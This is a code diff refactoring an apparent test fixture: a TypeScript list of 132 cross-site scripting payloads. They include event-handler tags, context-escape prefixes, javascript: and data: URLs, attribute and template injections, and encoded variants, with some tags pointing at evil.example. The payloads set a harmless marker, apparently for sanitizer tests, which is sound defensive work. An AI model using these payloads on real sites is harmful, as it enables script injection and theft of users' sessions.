@@ -1,48 +1,59 @@
-const carriers = [
-  "img planted src=x onerror=",
-  "svg planted onload=",
-  "svg planted/onload=",
-  "body planted onload=",
-  "input planted autofocus onfocus=",
-  "details planted open ontoggle=",
-  "video planted src=x onerror=",
-  "audio planted src=x onerror=",
-  "video planted><source onerror=",
-  "select planted autofocus onfocus=",
-  "textarea planted autofocus onfocus=",
-  "marquee planted onstart=",
-  "iframe planted onload=",
-  "object planted data=x onerror=",
-  "embed planted src=x onload=",
-  "style planted onload=",
-  "link planted rel=stylesheet href=x onerror=",
-  "script planted src=x onerror=",
-  "b planted onmouseover=",
-  "a planted href=x onclick=",
-  "form planted onsubmit=",
-  "p planted onanimationend=",
-  "x planted tabindex=1 onfocus=",
-  "dialog planted open onbeforetoggle=",
-  "math planted><mtext onclick=",
-]
+// the tags that run a script, by the attribute in which it stands
+const carriers = Object.entries({
+  onerror: [
+    "img src=x",
+    "video src=x",
+    "audio src=x",
+    "object data=x",
+    "link rel=stylesheet href=x",
+    "script src=x",
+  ],
+  onload: ["svg", "svg/", "body", "iframe", "embed src=x", "style"],
+  "autofocus onfocus": ["input", "select", "textarea"],
+  ontoggle: ["details open"],
+  onbeforetoggle: ["dialog open"],
+  onstart: ["marquee"],
+  onmouseover: ["b"],
+  onclick: ["a href=x"],
+  onsubmit: ["form"],
+  onanimationend: ["p"],
+  onfocus: ["x tabindex=1"],
+  "><source onerror": ["video"],
+  "><mtext onclick": ["math"],
+}).flatMap(([attribute, tags]) => tags.map((tag) => `<${tag} planted ${attribute}=__x=1>`))
 
-// how a text gets out of where it is put: a tag, an attribute, a comment, a title, a script, a style
-const exits = [
-  "",
-  '">',
-  "'>",
-  "-->",
-  "</p>",
-  "</title>",
-  "</script>",
-  "</style>",
-  "</textarea>",
-  "</select>",
-  "]]>",
-  "</noscript>",
-]
+// how a text gets out of where it is put: an attribute, a comment, a title, a script, a style
+const elements = ["p", "title", "script", "style", "textarea", "select", "noscript"]
+const exits = ["", '">', "'>", "-->", "]]>", ...elements.map((element) => `</${element}>`)]
 
-const whole = [
+const schemes = [
+  "javascript:",
+  "JaVaScRiPt:",
+  "java\tscript:",
+  "java\nscript:",
+  "\u0001javascript:",
+  " javascript:",
+]
+const addresses = [
+  ...[...schemes, "vbscript:", "javascript://%0a"].map((scheme) => `${scheme}__x=1`),
+  "javascript:alert(1)",
+  "javascript:/*--></title></style></script>*/__x=1",
+  "data:text/html,<script>top.__x=1</script>",
+  "data:text/html;base64,PHNjcmlwdD5fX3g9MTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg onload=__x=1>",
+]
+const inAddresses = [
+  "<iframe planted src=javascript:top.__x=1>",
+  "<a planted href=javascript:__x=1>a</a>",
+  "<a planted href='jav&#x09;ascript:__x=1'>a</a>",
+  "<form planted action=javascript:__x=1><button>",
+  "<base planted href=//evil.example/>",
+  "<meta planted http-equiv=refresh content=0;url=//e.x>",
+  "<link planted rel=import href=//evil.example>",
+  "<object planted data=javascript:__x=1>",
+  "<embed planted src=javascript:__x=1>",
+]
+const elementsOfScript = [
   "<script>__x=1</script>",
   "<ScRiPt>__x=1</sCrIpT>",
   "<scr<script>ipt>__x=1</scr</script>ipt>",
@@ -56,44 +67,20 @@ const whole = [
   "<math><style><img planted src=x onerror=__x=1>",
   "<noscript><p title='</noscript><img src=x planted>'>",
   "<iframe planted srcdoc='<script>top.__x=1</script>'>",
-  "<iframe planted src=javascript:top.__x=1>",
-  "<a planted href=javascript:__x=1>a</a>",
-  "<a planted href='jav&#x09;ascript:__x=1'>a</a>",
-  "<form planted action=javascript:__x=1><button>",
-  "<base planted href=//evil.example/>",
-  "<meta planted http-equiv=refresh content=0;url=//e.x>",
-  "<link planted rel=import href=//evil.example>",
-  "<object planted data=javascript:__x=1>",
-  "<embed planted src=javascript:__x=1>",
   "<template planted shadowrootmode=open><b>",
   "<plaintext planted>",
-  "javascript:__x=1",
-  "JaVaScRiPt:__x=1",
-  "java\tscript:__x=1",
-  "java\nscript:__x=1",
-  "\u0001javascript:__x=1",
-  " javascript:__x=1",
-  "javascript:alert(1)",
-  "javascript://%0a__x=1",
-  "javascript:/*--></title></style></script>*/__x=1",
-  "data:text/html,<script>top.__x=1</script>",
-  "data:text/html;base64,PHNjcmlwdD5fX3g9MTwvc2NyaXB0Pg==",
-  "data:image/svg+xml,<svg onload=__x=1>",
-  "vbscript:__x=1",
+  "<svg planted/onload=__x=1>",
+]
+const inAttributes = [
   '" onmouseover="__x=1" planted="',
   "' onmouseover='__x=1' planted='",
   '" autofocus onfocus="__x=1" planted x="',
   "` onmouseover=`__x=1` planted=`",
   '" style="animation:x" onanimationend="__x=1',
-  "';__x=1;'",
-  '";__x=1;"',
-  "\\';__x=1;//",
-  '\\";__x=1;//',
-  "`;__x=1;`",
-  "${__x=1}",
-  "{{constructor.constructor('__x=1')()}}",
-  "#{__x=1}<%= __x=1 %>",
-  "\u2028__x=1\u2029",
+]
+const inScripts = ["';__x=1;'", '";__x=1;"', "\\';__x=1;//", '\\";__x=1;//', "`;__x=1;`", "${__x=1}"]
+const inTemplates = ["{{constructor.constructor('__x=1')()}}", "#{__x=1}<%= __x=1 %>", "\u2028__x=1\u2029"]
+const encoded = [
   "\u2028</script><img planted src=x onerror=__x=1>",
   "&lt;img planted src=x onerror=__x=1&gt;",
   "&#60;script&#62;__x=1&#60;/script&#62;",
@@ -104,14 +91,14 @@ const whole = [
   "<\u0000script>__x=1</script>",
   "<img planted src=x\u00A0onerror=__x=1>",
 ]
+const whole = [elementsOfScript, inAddresses, addresses, inAttributes, inScripts, inTemplates, encoded].flat()
 
 /**
  * 132 texts that would run a script, were they taken for more than text. The script sets `__x`, what they would put into a
  * page is marked `planted`, and `//` may follow each of them.
  */
-export const scripts = [...whole, ...Array.from({ length: 72 }, (_, place) => carried(place))]
+export const scripts = [...whole, ...Array.from({ length: 132 - whole.length }, (_, place) => carried(place))]
 
 function carried(place: number) {
-  const carrier = carriers[place % carriers.length] ?? ""
-  return `${exits[place % exits.length] ?? ""}<${carrier}__x=1>`
+  return `${exits[place % exits.length]}${carriers[place % carriers.length]}`
 }
